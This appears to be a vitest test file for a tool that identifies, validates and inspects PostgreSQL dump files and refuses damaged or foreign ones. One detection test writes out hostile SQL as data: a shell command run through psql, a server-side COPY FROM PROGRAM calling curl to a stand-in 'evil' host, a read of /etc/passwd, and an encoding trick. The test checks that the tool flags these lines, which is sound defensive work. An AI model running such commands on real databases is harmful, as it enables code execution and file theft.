import {execFileSync, spawnSync} from 'node:child_process';
import {cpSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
import {join} from 'node:path';
import {fileURLToPath} from 'node:url';
import {gzipSync} from 'node:zlib';
import {expect, test} from 'vitest';
import {ZipFile} from 'yazl';
import {type ForeignDump, openSource} from '../../source/bundle/foreign.js';
import {inspectDump} from '../../source/bundle/inspect.js';
import {AppError} from '../../source/errors.js';
import {drive} from '../../source/operation.js';
import {createTestFolder, writeSample} from './sample.js';

const root = await createTestFolder();
const fixture = (name: string) => fileURLToPath(new URL(`fixtures/${name}`, import.meta.url));
const read = (name: string) => readFileSync(fixture(name));
let count = 0;

/** Writes a file under a name that tells nothing. */
function place(data: Buffer | string): string {
	const path = join(root, `file-${count++}`);
	writeFileSync(path, data);
	return path;
}

async function open(path: string): Promise<ForeignDump> {
	const source = await openSource(path);
	if (source.kind === 'bundle') throw new Error('it is a bundle');
	return source;
}

async function inspect(path: string) {
	const dump = await open(path);
	try {
		return await drive(inspectDump(dump), () => undefined);
	} finally {
		await dump.close();
	}
}

async function zip(parts: Readonly<Record<string, Buffer | string>>): Promise<Buffer> {
	const file = new ZipFile();
	for (const [name, data] of Object.entries(parts)) file.addBuffer(Buffer.from(data), name);
	file.end();
	const chunks: Buffer[] = [];
	for await (const chunk of file.outputStream as AsyncIterable<Buffer>) chunks.push(chunk);
	return Buffer.concat(chunks);
}

const rows = {'Odd Table': 3, clients: 60, empty: 0, files: 4, parted_2026: 10};
const namesAndRows = (facts: Awaited<ReturnType<typeof inspect>>) =>
	Object.fromEntries(facts.tables.filter(table => table.rows !== null).map(({name, rows: counted}) => [name, counted]));

test.each([
	['plain.sql', 'plain SQL'],
	['plain.sql.zst', 'plain SQL, zstd'],
	['create.sql', 'plain SQL'],
	['cluster.sql', 'plain SQL'],
	['custom-gzip.dump', 'custom format'],
	['custom-zstd.dump', 'custom format'],
	['custom-none.dump', 'custom format'],
	['tar.tar', 'tar format'],
])('%s is recognised without its name, and its rows are counted', async (name, label) => {
	const path = place(read(name));
	const dump = await open(path);
	expect(dump.label).toBe(label);
	await dump.close();
	const facts = await inspect(path);
	expect(namesAndRows(facts)).toMatchObject(rows);
	expect(facts).toMatchObject({serverMajor: 17, extensions: ['tablefunc'], decoded: true});
});

test.each(['plain.sql', 'custom-gzip.dump', 'custom-none.dump', 'tar.tar', 'cluster.sql'])(
	'%s in gzip is taken out of it',
	async name => {
		const path = place(gzipSync(read(name)));
		const dump = await open(path);
		expect(dump.label).toMatch(/, gzip$/u);
		expect(dump.seekablePath).toBeNull();
		const chunks: Buffer[] = [];
		for await (const chunk of dump.openDump() as AsyncIterable<Buffer>) chunks.push(chunk);
		expect(Buffer.concat(chunks).equals(read(name))).toBe(true);
		await dump.close();
		expect(namesAndRows(await inspect(path))).toMatchObject(rows);
	},
);

test('a gzip of several members is one dump', async () => {
	const data = read('plain.sql');
	const path = place(Buffer.concat([gzipSync(data.subarray(0, 9000)), gzipSync(data.subarray(9000))]));
	expect(namesAndRows(await inspect(path))).toMatchObject(rows);
});

test('a dump in the directory format is read from its folder', async () => {
	const dump = await open(fixture('directory'));
	expect(dump).toMatchObject({
		format: 'directory',
		label: 'directory format, gzip',
		seekablePath: fixture('directory'),
	});
	const facts = await inspect(fixture('directory'));
	expect(namesAndRows(facts)).toEqual(rows);
	expect(facts.databases).toEqual(['shop']);
});

test('an archive can be sought in, and tells its database, roles and properties', async () => {
	const dump = await open(fixture('custom-zstd.dump'));
	expect(dump.seekablePath).toBe(fixture('custom-zstd.dump'));
	expect(dump.toc?.compression).toBe('zstd');
	await dump.close();
	expect(await inspect(fixture('custom-zstd.dump'))).toMatchObject({
		databases: ['shop'],
		roles: ['app', 'postgres', 'read only'],
		createDatabase: expect.stringMatching(/^CREATE DATABASE shop WITH TEMPLATE = template0/u),
		alterDatabase: [expect.stringContaining('SET "TimeZone"')],
		sql: null,
	});
});

test('lz4 inside an archive is not decoded, and that is said', async () => {
	const facts = await inspect(fixture('custom-lz4.dump'));
	expect(facts.decoded).toBe(false);
	expect(facts.tables).toContainEqual({schema: 'public', name: 'clients', rows: null});
});

test('rows in INSERT statements are not counted, and that is said', async () => {
	const facts = await inspect(fixture('inserts.sql'));
	expect(facts.sql?.inserts).toBe(true);
	expect(facts.tables).toContainEqual({schema: 'public', name: 'clients', rows: null});
});

test('plain SQL tells its roles, its restrict lines and the settings that older servers refuse', async () => {
	const {sql, roles} = await inspect(fixture('plain.sql'));
	expect(roles).toEqual(['app', 'postgres', 'read only']);
	expect(sql).toMatchObject({source: 'pg_dump', complete: true, serverPrograms: [], doubts: [], globals: null});
	expect(sql?.metaCommands.map(({harm}) => harm)).toEqual(['none', 'none']);
	expect(sql?.settings.map(({name, since}) => [name, since])).toEqual([
		['transaction_timeout', 17],
		['default_table_access_method', 12],
	]);
});

test('lines can be left out of what goes to psql, exactly', async () => {
	const {sql} = await inspect(fixture('plain.sql'));
	const dump = await open(fixture('plain.sql'));
	const drop = [...(sql?.restrictLines ?? []), ...(sql?.settings ?? []).map(({range}) => range)];
	const chunks: Buffer[] = [];
	for await (const chunk of dump.openDump({drop}) as AsyncIterable<Buffer>) chunks.push(chunk);
	await dump.close();
	const expected = read('plain.sql')
		.toString('utf8')
		.replaceAll(/^\\(?:un)?restrict .*\n/gmu, '')
		.replace('SET transaction_timeout = 0;', '')
		.replace('SET default_table_access_method = heap;', '');
	expect(Buffer.concat(chunks).toString('utf8')).toBe(expected);
});

test('pg_dumpall is taken apart into roles and databases', async () => {
	const {sql, databases} = await inspect(fixture('cluster.sql'));
	expect(databases).toEqual(['template1', 'odd "name"', 'postgres', 'shop']);
	expect(sql).toMatchObject({source: 'pg_dumpall', complete: true, createdRoles: ['app', 'postgres', 'read only']});
	const text = read('cluster.sql');
	const cut = ({start, end}: {readonly start: number; readonly end: number}) =>
		text.subarray(start, end).toString('utf8');
	expect(cut(sql?.globals ?? {start: 0, end: 0})).toContain('CREATE ROLE app;');
	const shop = sql?.sections.find(section => section.database === 'shop');
	expect(shop?.create).toMatch(/^CREATE DATABASE shop WITH TEMPLATE = template0/u);
	expect(shop?.alter).toContain('ALTER DATABASE shop SET "TimeZone" TO \'UTC\'');
	const script = cut(shop ?? {start: 0, end: 0});
	expect(script).toContain('COPY public.clients');
	expect(script).toContain('-- PostgreSQL database dump complete');
	expect(script).not.toMatch(/CREATE DATABASE|\\connect|COPY public\.t /u);
});

test('pg_dump -C has one section, after its \\connect', async () => {
	const {sql} = await inspect(fixture('create.sql'));
	expect(sql?.sections).toMatchObject([{database: 'shop', complete: true}]);
	const dump = await open(fixture('create.sql'));
	const chunks: Buffer[] = [];
	for await (const chunk of dump.openDump({section: sql?.sections[0]}) as AsyncIterable<Buffer>) chunks.push(chunk);
	await dump.close();
	expect(Buffer.concat(chunks).toString('utf8')).not.toMatch(/\\connect|CREATE DATABASE/u);
});

test('a globals file of pg_dumpall is known as such', async () => {
	const {sql} = await inspect(fixture('globals.sql'));
	expect(sql).toMatchObject({
		source: 'pg_dumpall',
		complete: true,
		sections: [],
		createdRoles: ['app', 'postgres', 'read only'],
	});
});

test('plain SQL that a terminal gave the line ends of Windows comes out as it was', async () => {
	const data = read('plain.sql').toString('utf8').replaceAll('\n', '\r\n');
	const path = place(data);
	const dump = await open(path);
	expect(dump.label).toBe('plain SQL, line ends of Windows');
	const chunks: Buffer[] = [];
	for await (const chunk of dump.openDump() as AsyncIterable<Buffer>) chunks.push(chunk);
	await dump.close();
	expect(Buffer.concat(chunks).equals(read('plain.sql'))).toBe(true);
	expect(namesAndRows(await inspect(path))).toMatchObject(rows);
});

test('a byte order mark in front of SQL does no harm', async () => {
	const path = place(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), read('plain.sql')]));
	expect(namesAndRows(await inspect(path))).toMatchObject(rows);
});

test("Tracearr's zip is a dump with metadata beside it", async () => {
	const metadata = JSON.stringify({
		format: 1,
		createdAt: '2026-01-01T00:00:00Z',
		app: {version: '1.4.0'},
		database: {pgVersion: '17.5'},
	});
	const path = place(await zip({'metadata.json': metadata, 'database.dump': read('custom-gzip.dump')}));
	const dump = await open(path);
	expect(dump.label).toBe('custom format, backup of Tracearr');
	await dump.close();
	expect(namesAndRows(await inspect(path))).toEqual(rows);
});

test('a zip with one dump in it is opened, one with two or none is refused', async () => {
	const dump = await open(place(await zip({'backup/shop.sql': read('plain.sql')})));
	expect(dump.label).toBe('plain SQL, in a zip');
	await dump.close();
	const two = place(await zip({'a.sql': read('plain.sql'), 'b.dump': read('custom-gzip.dump')}));
	await expect(openSource(two)).rejects.toMatchObject({
		code: 'bundle-unreadable',
		message: expect.stringContaining('several dumps'),
	});
	const none = place(await zip({'readme.txt': 'hello', 'a.json': '{}'}));
	await expect(openSource(none)).rejects.toMatchObject({
		code: 'bundle-unreadable',
		message: expect.stringContaining('without a finished backup'),
	});
});

test('our own bundle is opened as one, whatever it is called', async () => {
	const {file} = await writeSample(join(root, 'own'));
	const source = await openSource(place(readFileSync(file)));
	expect(source.kind).toBe('bundle');
	await source.close();
});

test('SQL that nobody marked is read, and has no known end', async () => {
	const facts = await inspect(place('CREATE TABLE t (id int);\nINSERT INTO t VALUES (1);\n'));
	expect(facts.sql).toMatchObject({source: 'unknown', complete: null});
});

test('commands of psql and programs of the server are found with their lines', async () => {
	const script = [
		'-- harmless \\! comment',
		'CREATE TABLE t (id int);',
		'\\! touch /tmp/evil',
		'COPY t FROM stdin;',
		'\\! data',
		'\\.',
		"COPY t FROM PROGRAM 'curl http://evil.example.org';",
		'\\i /etc/passwd',
		"SELECT 'C:\\'; SELECT set_config('standard_conforming_strings', 'off', false);",
		"SET client_encoding = 'SJIS';",
	];
	const {sql} = await inspect(place(script.join('\n')));
	expect(sql?.metaCommands).toEqual([
		{line: 3, text: '\\! touch /tmp/evil', harm: 'runs-program'},
		{line: 8, text: '\\i /etc/passwd', harm: 'reads-file'},
	]);
	expect(sql?.serverPrograms).toEqual([{line: 7, text: "COPY t FROM PROGRAM 'curl http://evil.example.org'"}]);
	expect(sql?.doubts.map(({line}) => line).sort()).toEqual([10, 9]);
});

const plain = read('plain.sql');
const copyStart = plain.indexOf('COPY public.clients');

test.each(Array.from({length: 40}, (_, index) => index))('plain SQL cut at place %i of 40 is refused', async index => {
	const length = Math.floor(((index + 0.5) / 40) * (plain.length - 100));
	await expect(inspect(place(plain.subarray(0, length)))).rejects.toMatchObject({code: 'bundle-damaged'});
});

test('a dump cut inside COPY is refused, and says where', async () => {
	const cut = plain.subarray(0, plain.indexOf('\n', copyStart + 600) + 1);
	await expect(inspect(place(cut))).rejects.toMatchObject({
		code: 'bundle-damaged',
		message: expect.stringMatching(/cut short inside the rows of public\.clients, after \d+ of them \(line \d+\)/u),
	});
});

test('a dump whose server died at the end of a table (it ends with \\.) is refused', async () => {
	const end = plain.indexOf('\n\\.\n', copyStart) + 4;
	await expect(inspect(place(plain.subarray(0, end)))).rejects.toMatchObject({
		code: 'bundle-damaged',
		message: expect.stringContaining('the line that ends a finished dump is missing'),
	});
});

test('a cluster dump in which one database is not finished is refused', async () => {
	const text = read('cluster.sql').toString('utf8');
	const last = text.lastIndexOf('-- PostgreSQL database dump complete');
	const cut = `${text.slice(0, last)}${text.slice(last + 40)}`;
	await expect(inspect(place(cut))).rejects.toMatchObject({message: expect.stringContaining('database shop')});
});

test.each([
	['custom-gzip.dump', 24],
	['custom-zstd.dump', 24],
	['custom-none.dump', 24],
	['tar.tar', 24],
])('%s cut at each of %i places is refused', async (name, places) => {
	const data = read(name);
	for (let index = 0; index < places; index++) {
		const length =
			Math.floor(((index + 0.5) / places) * (name === 'tar.tar' ? data.length - 5000 : data.length - 1)) + 1;
		await expect(inspect(place(data.subarray(0, length))), `${length} of ${data.length}`).rejects.toMatchObject({
			code: expect.stringMatching(/^bundle-(?:damaged|unreadable)$/u),
		});
	}
});

test.each(['custom-gzip.dump', 'custom-zstd.dump', 'plain.sql'])(
	'gzip of %s cut short or altered is refused',
	async name => {
		const packed = gzipSync(read(name));
		for (const length of [packed.length - 1, packed.length - 8, packed.length >> 1, 30]) {
			await expect(inspect(place(packed.subarray(0, length)))).rejects.toMatchObject({code: 'bundle-damaged'});
		}

		const altered = Buffer.from(packed);
		altered[packed.length >> 1] = (altered[packed.length >> 1] ?? 0) ^ 0x40;
		await expect(inspect(place(altered))).rejects.toMatchObject({code: 'bundle-damaged'});
	},
);

test('zstd cut short is refused', async () => {
	const packed = read('plain.sql.zst');
	await expect(inspect(place(packed.subarray(0, packed.length - 20)))).rejects.toMatchObject({code: 'bundle-damaged'});
});

test('a directory format with a file missing or cut is refused', async () => {
	const folder = join(root, 'directory');
	cpSync(fixture('directory'), folder, {recursive: true});
	const data = readdirSync(folder).filter(name => name.endsWith('.dat.gz'));
	const [first = ''] = data;
	const kept = readFileSync(join(folder, first));
	rmSync(join(folder, first));
	await expect(inspect(folder)).rejects.toMatchObject({
		code: 'bundle-damaged',
		message: expect.stringContaining('missing'),
	});
	writeFileSync(join(folder, first), kept.subarray(0, kept.length - 4));
	await expect(inspect(folder)).rejects.toMatchObject({code: 'bundle-damaged'});
});

test.each([
	['an empty file', Buffer.alloc(0), 'is empty'],
	['zero bytes', Buffer.alloc(5000), 'zero bytes only'],
	['the 20 bytes of a failed pg_dump | gzip', gzipSync(''), 'the dump that was piped into it failed'],
	['MySQL', '-- MySQL dump 10.13  Distrib 8.0.36, for Linux (x86_64)\n', 'dump of MySQL or MariaDB'],
	[
		'MariaDB with its sandbox line',
		'/*M!999999\\- enable the sandbox mode */ \n-- MariaDB dump 10.19\n',
		'dump of MySQL or MariaDB',
	],
	['MySQL in gzip', gzipSync('-- MySQL dump 10.13\nCREATE TABLE `a` (b int);'), 'dump of MySQL or MariaDB'],
	['SQLite', Buffer.concat([Buffer.from('SQLite format 3\0'), Buffer.alloc(100)]), 'SQLite database'],
	['a dump of SQLite', 'PRAGMA foreign_keys=OFF;\nBEGIN TRANSACTION;\n', 'SQLite database'],
	['Oracle', Buffer.from('\u0003\u0003iEXPORT:V19.00.00\nDSYSTEM\n', 'latin1'), 'export of Oracle'],
	['SQL Server', Buffer.concat([Buffer.from('TAPE\0\0\u0003\0'), Buffer.alloc(100)]), 'Microsoft SQL Server'],
	['MongoDB', Buffer.from([0x6d, 0xe2, 0x99, 0x81, 1, 0, 0, 0]), 'mongodump'],
	['HTML', '<!DOCTYPE html>\n<html><body>502 Bad Gateway</body></html>', 'web page'],
	['HTML in gzip', gzipSync('\n<html><head><title>Sign in</title>'), 'web page'],
	['XML', '<?xml version="1.0"?><Error><Code>AccessDenied</Code></Error>', 'XML document'],
	['JSON', '{"error": "not found"}', 'JSON document'],
	[
		'UTF-16',
		Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('-- PostgreSQL database dump', 'utf16le')]),
		'UTF-16',
	],
	[
		'an error message',
		'pg_dump: error: connection to server at "db" failed: FATAL: password\n',
		'error message of a tool',
	],
	['a message of the engine', 'Error response from daemon: No such container: db\n', 'error message of a tool'],
	['xz', Buffer.from([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0, 0, 4]), 'compressed by xz'],
	['7-Zip', Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), '7-Zip'],
	['openssl', 'Salted__12345678abcdefgh', 'encrypted by openssl'],
	['GnuPG', '-----BEGIN PGP MESSAGE-----\n\nabc', 'GnuPG'],
	['Git LFS', 'version https://git-lfs.github.com/spec/v1\noid sha256:abc\n', 'Git LFS'],
	['a picture', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]), 'unknown binary data'],
	['prose', 'Dear diary, today I made a backup.\n', 'neither SQL nor a dump'],
	[
		'stderr in front',
		Buffer.concat([Buffer.from('pg_dump: warning: circular foreign keys\n'), read('custom-gzip.dump')]),
		'2>&1',
	],
	[
		'stream headers of the engine',
		Buffer.concat([Buffer.from([1, 0, 0, 0, 0, 0, 0x10, 0]), read('custom-gzip.dump')]),
		'stream headers',
	],
	['a custom dump that a terminal mangled', mangle(read('custom-none.dump')), 'mangled by a terminal'],
	['a compressed custom dump that a terminal mangled', mangle(read('custom-gzip.dump')), 'mangled by a terminal'],
])('%s is refused by name', async (_, data, says) => {
	await expect(openSource(place(data))).rejects.toMatchObject({
		code: 'bundle-unreadable',
		message: expect.stringContaining(says),
	});
});

test('a mangled custom dump can be saved as the hint says', async () => {
	const refusal: unknown = await openSource(place(mangle(read('custom-gzip.dump')))).catch((error: unknown) => error);
	const [command = '', ...args] = refusal instanceof AppError ? (refusal.fix ?? []) : [];
	expect(command).toBe('perl');
	if (spawnSync(command, ['-v']).error !== undefined) return;
	expect(execFileSync(command, [...args]).equals(read('custom-gzip.dump'))).toBe(true);
});

test('folders and tars that hold no dump are refused by name', async () => {
	const folder = join(root, 'data');
	mkdirSync(join(folder, 'base'), {recursive: true});
	await expect(openSource(folder)).rejects.toMatchObject({message: expect.stringContaining('without a dump in it')});
	writeFileSync(join(folder, 'PG_VERSION'), '17\n');
	await expect(openSource(folder)).rejects.toMatchObject({message: expect.stringContaining('data folder of a server')});
	const tar = (names: readonly string[]) => {
		const path = join(root, `tar-${count++}`);
		execFileSync('tar', ['-cf', path, '-C', folder, ...names]);
		return path;
	};

	await expect(openSource(tar(['PG_VERSION', 'base']))).rejects.toMatchObject({
		message: expect.stringContaining('physical backup'),
	});
	mkdirSync(join(folder, 'dump'));
	writeFileSync(join(folder, 'dump/toc.dat'), read('custom-none.dump'));
	await expect(openSource(tar(['dump']))).rejects.toMatchObject({message: expect.stringContaining('directory format')});
	await expect(openSource(join(root, 'nothing'))).rejects.toMatchObject({code: 'file-not-found'});
});

/** What a pseudo-terminal does to bytes that pass through it. */
function mangle(data: Buffer): Buffer {
	return Buffer.from(data.toString('latin1').replaceAll('\n', '\r\n'), 'latin1');
}
